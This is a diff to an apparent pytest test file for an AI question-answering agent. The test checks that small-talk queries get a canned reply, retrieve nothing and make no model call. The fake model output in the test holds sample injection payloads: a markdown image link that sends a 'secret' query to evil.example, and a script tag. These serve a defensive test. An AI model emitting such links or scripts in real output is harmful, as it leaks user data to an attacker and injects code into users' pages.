@@ -152,12 +152,13 @@ async def test_a_model_that_has_searched_enough_has_to_answer(world: AgentWorld,
 
 
 @pytest.mark.parametrize("path", PATHS)
-async def test_small_talk_is_none_of_the_models(world: AgentWorld, path: str) -> None:
-    lie = Say(["Paris is in France. Buy at https://evil.example/?q=secret now."])
+@pytest.mark.parametrize("said", ["hi", "How does this work?", "Thanks a lot!"])
+async def test_small_talk_is_none_of_the_models(world: AgentWorld, path: str, said: str) -> None:
+    lie = Say(["Paris is in France. ![x](http://evil.example/?q=secret) <script>x</script>"])
 
-    reply = await world.ask(path, [lie], query="Hello")
+    reply = await world.ask(path, [lie], query=said)
 
-    assert (reply.answer, reply.sources) == (reply_to_small_talk("Hello"), ())
+    assert (reply.answer, reply.sources) == (reply_to_small_talk(said), ())
     assert (reply.metadata["answered"], reply.metadata["chunks_retrieved"]) == (True, 0)
     assert world.model.requests == []
 
